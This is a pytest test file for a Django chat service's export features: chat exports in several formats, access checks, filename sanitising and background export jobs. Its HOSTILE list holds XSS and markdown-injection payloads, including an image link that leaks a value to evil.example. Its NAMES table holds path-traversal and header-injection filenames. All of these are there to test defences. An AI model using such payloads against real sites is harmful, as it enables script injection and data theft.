"""Exports: a chat to read, for whoever reads it; and jobs, which one has for oneself, as long as they are kept."""

import csv
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from datetime import timedelta
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.db import transaction
from django.test import AsyncClient
from django.utils import timezone
from markdown_it import MarkdownIt
from rest_framework.test import APIClient

from accounts import plans
from accounts.audit.models import AuditEntry
from accounts.audit.sealing import seal
from accounts.models import Membership, Organization, User
from accounts.plans import Terms
from accounts.sign_in.tokens import AccessToken
from chat.exports import files, of_chats
from chat.exports.forms.harmless import harmless
from chat.exports.models import Export, ExportStatus
from chat.exports.working import ATTEMPTS, Working, has_work
from chat.feedback import datasets
from chat.models import Chat, Feedback, Message, MessageStatus, RunStatus
from chat.services import holds, people, removing
from tests.chat.rows import answer, say
from tests.corpus import snippets

Api = Callable[[User], APIClient]
SCRIPTS = {
    "Arabic": "مرحبا بالعالم", "Hebrew": "שלום עולם", "Chinese": "你好世界", "Hindi": "नमस्ते दुनिया", "emoji": "😀🚀",
}  # fmt: skip


@pytest.fixture(autouse=True)
def no_files() -> Iterator[None]:
    yield
    for name in files.there():
        files.remove(name)


def fetch(chat: Chat, user: User, **query: str) -> tuple[int, Any, bytes]:
    """Status, headers and body."""
    return got(f"/api/chats/{chat.pk}/export/", user, **query)


def got(path: str, user: User, **query: str) -> tuple[int, Any, bytes]:
    from asgiref.sync import async_to_sync

    async def ask() -> tuple[int, Any, bytes]:
        signed = {"Authorization": f"Bearer {await sync_to_async(AccessToken.of)(user)}"}
        answered = await AsyncClient().get(path, query, headers=signed)
        if not answered.streaming:
            return answered.status_code, answered.headers, answered.content
        return answered.status_code, answered.headers, b"".join([piece async for piece in answered.streaming_content])

    return async_to_sync(ask)()


def talk(chat: Chat, alice: User) -> None:
    """A question and an answer with all that one may hold, and another branch."""
    run = answer(chat, alice, text=f"# Answer\n\n{' '.join(SCRIPTS.values())}\n\n```py\nx = 1\n```")
    parts = [
        {"type": "reasoning", "text": "Secretly thought"},
        {"type": "tool_call", "call": "c", "name": "read_file", "arguments": {"path": "a.md"}},
        {"type": "tool_result", "call": "c", "name": "read_file", "result": "```\nfound", "is_error": False},
        {"type": "text", "text": run.message.content},
        {"type": "citation", "n": 1, "title": "Guide", "url": "https://example.com/guide", "at": 3},
    ]
    files = [{"type": "file", "name": "re|port.pdf", "content": "never told"}]
    Message.objects.filter(pk=run.message_id).update(parts=parts)
    Message.objects.filter(pk=run.input_id).update(attachments=files)
    Chat.objects.filter(pk=chat.pk).update(leaf=run.input_id)
    say(chat, alice, "The other branch")
    Chat.objects.filter(pk=chat.pk).update(leaf=run.message_id)


# --- A chat to read ---------------------------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_each_form_is_read_by_a_reader_of_its_own(chat: Chat, alice: User) -> None:
    talk(chat, alice)
    status, headers, body = fetch(chat, alice, format="json")
    assert (status, headers["Content-Type"], headers["Content-Length"]) == (200, "application/json", str(len(body)))
    assert headers["Content-Disposition"] == 'attachment; filename="First steps.json"'
    told = json.loads(body)
    assert (told["format"], told["version"], told["chat"]["id"]) == ("chat", 1, str(chat.pk))
    question, said = told["messages"]
    assert question["author"] == {"id": str(alice.pk), "name": "Alice"} and question["attachments"][0]["name"]
    assert [each["type"] for each in said["parts"]] == ["text", "citation"] and said["parent"] == question["id"]

    status, _, body = fetch(chat, alice, format="markdown")
    tokens = MarkdownIt("commonmark").parse(body.decode())
    heads = [tokens[at + 1].children for at, each in enumerate(tokens) if each.type == "heading_open"]
    assert [each[0].content for each in heads if each][:2] == ["First steps", "Alice"]
    assert [each.content for each in tokens if each.type == "fence"] == ["x = 1\n"]

    status, headers, body = fetch(chat, alice, format="text")
    assert (
        headers["Content-Type"] == "text/plain; charset=utf-8"
        and "[1] Guide https://example.com/guide" in body.decode()
    )
    for format in ("json", "markdown", "text"):
        body = fetch(chat, alice, format=format)[2]
        assert all(each in body.decode() for each in SCRIPTS.values()), format
        assert b"never told" not in body and b"Secretly" not in body and b"other branch" not in body


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("format", ["json", "markdown", "text"])
def test_tools_reasoning_and_other_branches_are_told_where_asked_for(format: str, chat: Chat, alice: User) -> None:
    talk(chat, alice)
    body = fetch(chat, alice, format=format, branch="all", **{"with": "tools,reasoning"})[2].decode()
    assert all(each in body for each in ("Secretly thought", "a.md", "found", "The other branch"))
    body = fetch(chat, alice, format=format, **{"with": "reasoning"})[2].decode()
    assert "Secretly thought" in body and "a.md" not in body


@pytest.mark.django_db(transaction=True)
def test_whoever_reads_a_chat_has_it_and_nobody_else(chat: Chat, alice: User, bob: User, charlie: User) -> None:
    answer(chat, alice, text="Planted words")
    for format in of_chats.FORMATS:
        for stranger in (bob, charlie):
            status, _, body = fetch(chat, stranger, format=format)
            assert status == 404 and b"Planted" not in body
    Chat.objects.filter(pk=chat.pk).update(sharing="project")
    assert b"Planted words" in fetch(chat, bob, format="markdown")[2]
    assert fetch(chat, bob, format="parley")[0] == 403  # with all that import takes, for its owner alone
    assert fetch(chat, charlie, format="markdown")[0] == 404
    told = AuditEntry.objects.filter(action="chat.exported", actor=bob.pk).get()
    assert told.detail == {"format": "markdown"}


BAD = (
    {"format": "docx"},
    {"format": "text", "branch": "x"},
    {"format": "text", "with": "x"},
    {"format": "text", "q": "1"},
)


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("query", [*BAD, {"branch": "all"}])
def test_what_is_odd_is_refused(query: dict[str, str], chat: Chat, alice: User) -> None:
    status, _, body = fetch(chat, alice, **query)
    assert status == 400 and json.loads(body)["error"]["fields"]


@pytest.mark.django_db(transaction=True)
def test_what_cannot_leave_is_said(chat: Chat, alice: User, settings: Any) -> None:
    answer(chat, alice)
    Chat.objects.filter(pk=chat.pk).update(level=2)
    status, _, body = fetch(chat, alice, format="text")
    assert (status, json.loads(body)["error"]["code"]) == (409, "holds_confidential")
    Chat.objects.filter(pk=chat.pk).update(level=0)
    settings.EXPORT_PDF_INLINE = 1
    status, _, body = fetch(chat, alice, format="pdf")
    assert status == 413 and "/api/exports/" in json.loads(body)["error"]["message"]
    plans.tell([Terms("SMALL", "Small", ("*",), ("search",))])
    Organization.objects.filter(pk=chat.organization_id).update(plan="SMALL")
    status, _, body = fetch(chat, alice, format="pdf")
    assert (status, json.loads(body)["error"]["code"]) == (403, "plan_feature")
    assert fetch(chat, alice, format="text")[0] == 200
    settings.EXPORT_MAX_BYTES = 10
    assert fetch(chat, alice, format="text")[0] == 413


@pytest.mark.django_db(transaction=True)
def test_what_is_not_whole_is_told_as_far_as_it_is(chat: Chat, alice: User) -> None:
    failed, running = answer(chat, alice, RunStatus.FAILED), answer(chat, alice, RunStatus.RUNNING, text="So far")
    Message.objects.filter(pk=failed.input_id).update(status=MessageStatus.DELETED, content="", author=None)
    body = fetch(chat, alice, format="markdown")[2].decode()
    for each in ("Somebody who is gone", "*Deleted.*", "*It failed.*", "So far", "*It was still being written.*"):
        assert each in body, each
    assert running.pk


NAMES = {
    "../../etc/passwd": "etc passwd", 'a"b\r\nX-Evil: 1': "a b X-Evil 1", "Grüße שלום": "Grüße שלום",
    "x\u202egnp.exe": "x gnp exe", "..": None, "x" * 300: "x" * 80,
}  # fmt: skip


@pytest.mark.parametrize(("title", "name"), NAMES.items())
def test_a_file_is_named_by_the_title_as_far_as_that_is_a_name(title: str, name: str | None) -> None:
    chat = Chat(title=title)
    assert of_chats.name_of(chat) == (name or f"chat-{chat.pk}")


# --- Markdown does no harm --------------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>", "x <img src=x onerror=alert(1)> y", "![](https://evil.example/?q=SECRET)",
    "[a](javascript:alert(1))", "[a](&#106;avascript:alert(1))", "[a]: javascript:alert(1)\n\n[a]", "<!-- never ended",
    "> <b>in a quote", "- a\n  <iframe src=//evil.example>", "| a |\n|---|\n| <u>x</u> |", "![a][b]\n\n[b]: https://evil.example/",
    "[x](//evil.example)", "[x](data:text/html,hi)", "<a href='https://evil.example'>x</a>", "![a](x) ``` <b>",
]  # fmt: skip


@pytest.mark.parametrize("text", [*HOSTILE, *snippets().values()])
def test_a_reader_that_takes_everything_finds_nothing_that_does_harm(text: str) -> None:
    reader = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    reader.validateLink = lambda url: True  # type: ignore[method-assign]
    whole = f"# Head\n\n{harmless(text)}\n\n## Behind\n"
    tokens = reader.parse(whole)
    inner = [child for each in tokens for child in each.children or ()]
    assert not [each for each in tokens if each.type == "html_block"]
    assert not [each for each in inner if each.type == "image"]
    assert {each.content.lower()[:3] for each in inner if each.type == "html_inline"} <= {"<br"}
    links = [str(each.attrGet("href")) for each in inner if each.type == "link_open"]
    assert all(each.lower().startswith(("http://", "https://", "mailto:")) for each in links), links
    assert tokens[-2].content == "Behind" and tokens[-2].level == 1  # nothing is left open


@pytest.mark.parametrize("text", ["# A\n\n- **b** `<b>`\n\n```html\n<b>\n```", "a <https://a.example> & b < c<br>d"])
def test_what_does_no_harm_is_left_as_it_is(text: str) -> None:
    assert harmless(text) == text


# --- Jobs -------------------------------------------------------------------------------------------------------------


def begun(client: APIClient, **asked: Any) -> Any:
    return client.post("/api/exports/", asked, format="json")


def work() -> Working:
    """One round of the chore."""
    working = Working()
    while working.step():
        pass
    return working


def kinds(chat: Chat) -> list[dict[str, Any]]:
    of = {"organization": str(chat.organization_id)}
    return [
        {"what": "me", "format": "zip"},
        {"what": "chat", "format": "markdown", "chat": str(chat.pk), "branch": "all", "with": "tools"},
        {"what": "usage", "format": "csv", "by": "day,user", **of},
        {"what": "usage", "format": "jsonl", **of},
        {"what": "audit", "format": "jsonl", "action": "chat.shared", **of},
        {"what": "audit", "format": "csv", **of},
        *({"what": "feedback", "format": each, **of} for each in datasets.FORMATS),
    ]


@pytest.mark.django_db(transaction=True)
def test_each_kind_is_written_told_of_fetched_and_read(chat: Chat, alice: User, api: Api) -> None:
    said = answer(chat, alice, text="Planted words")
    Feedback.objects.create(message=said.message, user=alice, rating="up")
    api(alice).patch(f"/api/chats/{chat.pk}/", {"sharing": "project"}, format="json")
    seal()
    for asked in kinds(chat):
        made = begun(api(alice), **asked)
        assert (made.status_code, made.json()["status"]) == (202, "queued"), made.content
        assert api(alice).get(made.json()["file"] or f"{made['Location']}file/").status_code == 409
        assert has_work() and work().counts["exports written"] == 1
        told = api(alice).get(made["Location"]).json()
        assert told["status"] == "done" and told["error"] is None and told["done"] == told["total"], told
        status, headers, body = got(told["file"], alice)
        assert status == 200 and len(body) == told["bytes"], asked
        CHECKS[asked["what"], asked["format"]](body)
        assert headers["Content-Disposition"].startswith("attachment; ")
    entries = AuditEntry.objects.filter(action__startswith="export.").order_by("at")
    assert [each.action for each in entries] == ["export.made", "export.downloaded"] * len(kinds(chat))
    listed = api(alice).get("/api/exports/?page_size=2").json()
    assert len(listed["results"]) == 2 and listed["next"] and listed["results"][0]["what"] == "feedback"


def check_zip(body: bytes) -> None:
    names = zipfile.ZipFile(io.BytesIO(body)).namelist()
    assert "account.json" in names and any(each.startswith("chats/") for each in names)


def check_lines(body: bytes) -> None:
    assert all(json.loads(line) for line in body.splitlines())


def check_csv(body: bytes) -> None:
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert len(rows[0]) > 4 and {len(each) for each in rows} == {len(rows[0])}


CHECKS: dict[tuple[str, str], Callable[[bytes], None]] = {
    ("me", "zip"): check_zip,
    ("chat", "markdown"): lambda body: MarkdownIt().parse(body.decode()) and None,
    ("usage", "csv"): check_csv,
    ("usage", "jsonl"): check_lines,
    ("audit", "jsonl"): check_lines,
    ("audit", "csv"): check_csv,
    **{("feedback", each): check_lines for each in datasets.FORMATS},
}
WRONG: list[tuple[dict[str, Any], str]] = [
    ({}, "what"),
    ({"what": "all", "format": "zip"}, "what"),
    ({"what": "me"}, "format"),
    ({"what": "me", "format": "pdf"}, "format"),
    ({"what": "me", "format": "zip", "chat": "x"}, "chat"),
    ({"what": "chat", "format": "pdf"}, "chat"),
    ({"what": "chat", "format": "pdf", "chat": 7}, "chat"),
    ({"what": "usage", "format": "csv"}, "organization"),
    ({"what": "audit", "format": "csv", "by": "day"}, "by"),
    ({"what": "me", "format": "zip", "colour": "red"}, "colour"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("asked", "field"), WRONG)
def test_a_job_that_is_none_is_refused(asked: dict[str, Any], field: str, alice: User, api: Api) -> None:
    answered = begun(api(alice), **asked)
    assert answered.status_code == 400 and field in answered.json()["error"]["fields"], answered.content
    assert not Export.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_it_is_for_who_may_and_nobody_else_knows_of_it(
    chat: Chat, alice: User, bob: User, charlie: User, api: Api
) -> None:
    for asked in kinds(chat)[1:]:
        assert begun(api(charlie), **asked).status_code == 404, asked
        if asked["what"] != "usage":  # which members have of themselves
            assert begun(api(bob), **asked).status_code in (403, 404), asked
    made = begun(api(alice), **kinds(chat)[1])
    work()
    for stranger in (bob, charlie):
        for path in (made["Location"], f"{made['Location']}file/"):
            assert got(path, stranger)[0] == 404
        assert api(stranger).delete(made["Location"]).status_code == 404
        assert api(stranger).get("/api/exports/").json()["results"] == []
    assert APIClient().post("/api/exports/", kinds(chat)[0], format="json").status_code == 401


@pytest.mark.django_db(transaction=True)
def test_the_right_is_asked_for_again(chat: Chat, alice: User, bob: User, api: Api) -> None:
    Chat.objects.filter(pk=chat.pk).update(sharing="project")
    made = begun(api(bob), **kinds(chat)[1])
    work()
    path = f"{made['Location']}file/"
    assert got(path, bob)[0] == 200
    Chat.objects.filter(pk=chat.pk).update(sharing="private")
    assert got(path, bob)[0] == 404
    again = begun(api(bob), **kinds(chat)[0])
    Membership.objects.filter(user=bob).delete()
    work()
    assert api(bob).get(again["Location"]).json()["status"] == "done"  # what is theirs is, wherever they are
    begun(api(alice), **kinds(chat)[4])
    Membership.objects.filter(user=alice).update(role="editor")
    work()
    told = api(alice).get("/api/exports/").json()["results"][0]
    assert (told["status"], told["error"]["code"], told["file"]) == ("failed", "not_allowed", None)


@pytest.mark.django_db(transaction=True)
def test_one_at_a_time_and_once_for_a_key(chat: Chat, alice: User, bob: User, api: Api) -> None:
    client = api(alice)
    made = client.post("/api/exports/", kinds(chat)[0], format="json", headers={"Idempotency-Key": "k"})
    again = client.post("/api/exports/", kinds(chat)[0], format="json", headers={"Idempotency-Key": "k"})
    assert made.status_code == again.status_code == 202 and made.json()["id"] == again.json()["id"]
    refused = begun(client, **kinds(chat)[1])
    assert (refused.status_code, refused.json()["error"]["code"]) == (429, "too_many_exports") and refused[
        "Retry-After"
    ]
    assert begun(api(bob), **kinds(chat)[0]).status_code == 202
    assert client.delete(made["Location"]).status_code == 204
    assert begun(client, **kinds(chat)[1]).status_code == 202


@pytest.mark.django_db(transaction=True)
def test_so_many_of_a_person_s_are_kept(chat: Chat, alice: User, bob: User, api: Api, settings: Any) -> None:
    settings.EXPORTS_PER_PERSON = 2
    for _ in range(2):
        assert begun(api(alice), **kinds(chat)[1]).status_code == 202
        work()
    refused = begun(api(alice), **kinds(chat)[1])
    assert (refused.status_code, refused.json()["error"]["code"]) == (409, "too_many_kept_exports")
    assert begun(api(bob), **kinds(chat)[0]).status_code == 202
    oldest = api(alice).get("/api/exports/").json()["results"][-1]
    assert api(alice).delete(f"/api/exports/{oldest['id']}/").status_code == 204
    assert begun(api(alice), **kinds(chat)[1]).status_code == 202


@pytest.mark.django_db(transaction=True)
def test_it_is_kept_so_long_and_goes_with_what_it_is_of(
    chat: Chat, alice: User, bob: User, api: Api, settings: Any
) -> None:
    """Its time, the chat, a chat that a hold keeps, the person: afterwards no file is left."""

    def over() -> None:
        Export.objects.update(expires_at=timezone.now() - timedelta(seconds=1))

    def held() -> None:
        holds.place(scope="chat", subject=chat.pk, reason="A case.", by=None)
        with transaction.atomic():
            assert not removing.remove_chat(chat)

    for end in (over, held):
        made = begun(api(alice), **kinds(chat)[1])
        work()
        assert files.there() == {f"{made.json()['id']}.1"} and not has_work()
        end()
        assert got(f"{made['Location']}file/", alice)[0] == 404 and has_work()
        work()
        assert not files.there() and not has_work()
    begun(api(bob), **kinds(chat)[0])
    work()
    people.delete_oneself(bob)
    work()
    assert not files.there()


@pytest.mark.django_db(transaction=True)
def test_what_a_dead_process_has_left_is_written_anew_and_given_up_in_the_end(
    chat: Chat, alice: User, api: Api
) -> None:
    made = begun(api(alice), **kinds(chat)[1])
    Export.objects.update(status=ExportStatus.RUNNING, attempt=1)
    files.path_of(made.json()["id"], 1).write_text("half")
    (files.folder() / "stray").mkdir()
    work()
    assert api(alice).get(made["Location"]).json()["status"] == "done" and files.there() == {f"{made.json()['id']}.2"}
    made = begun(api(alice), **kinds(chat)[1])
    Export.objects.filter(pk=made.json()["id"]).update(status=ExportStatus.RUNNING, attempt=ATTEMPTS)
    work()
    assert api(alice).get(made["Location"]).json()["error"]["code"] == "failed"


@pytest.mark.django_db(transaction=True)
def test_one_that_is_removed_while_it_is_written_leaves_nothing(
    chat: Chat, alice: User, api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    answer(chat, alice)
    monkeypatch.setattr("chat.exports.working.STEP_S", 0)
    made = begun(api(alice), **kinds(chat)[1])
    working = Working()
    assert working.step() and working.step()
    assert files.there() == {f"{made.json()['id']}.1"}
    assert (
        api(alice).get(made["Location"]).json() | {"status": "running", "total": 2}
        == api(alice).get(made["Location"]).json()
    )
    api(alice).delete(made["Location"])
    while working.step():
        pass
    assert working.counts["exports written"] == 0 and not files.there() and not Export.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_why_it_failed_is_said(chat: Chat, alice: User, api: Api, settings: Any) -> None:
    answer(chat, alice, RunStatus.RUNNING)
    made = begun(api(alice), **kinds(chat)[0])
    assert work().counts["exports failed"] == 1
    told = api(alice).get(made["Location"]).json()
    assert told["error"]["code"] == "run_open" and "still being written" in told["error"]["message"]
    settings.EXPORT_FILE_MAX_BYTES = 10
    made = begun(api(alice), **kinds(chat)[3 - 1])
    work()
    assert api(alice).get(made["Location"]).json()["error"]["code"] == "export_too_large" and not files.there()
